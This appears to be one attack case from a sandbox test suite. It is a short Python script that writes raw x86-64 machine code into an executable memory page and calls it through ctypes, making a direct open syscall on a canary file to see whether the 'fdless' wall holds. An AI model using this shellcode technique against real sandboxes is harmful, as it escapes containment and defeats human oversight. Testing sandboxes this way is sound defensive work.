# attack: run machine code of one's own, and open a file with it
# class: native crash
# wall: fdless

import ctypes
import mmap

# mov eax, 2; xor esi, esi; xor edx, edx; syscall; ret
CODE = b"\xb8\x02\x00\x00\x00\x31\xf6\x31\xd2\x0f\x05\xc3"


def attack(frame, frame_index, config):
    page = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, 7)
    page.write(CODE)
    function = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p)(
        ctypes.addressof(ctypes.c_char.from_buffer(page))
    )
    result = function(config["canary"].encode())
    return "outside: opened" if result >= 0 else f"held: {result}"
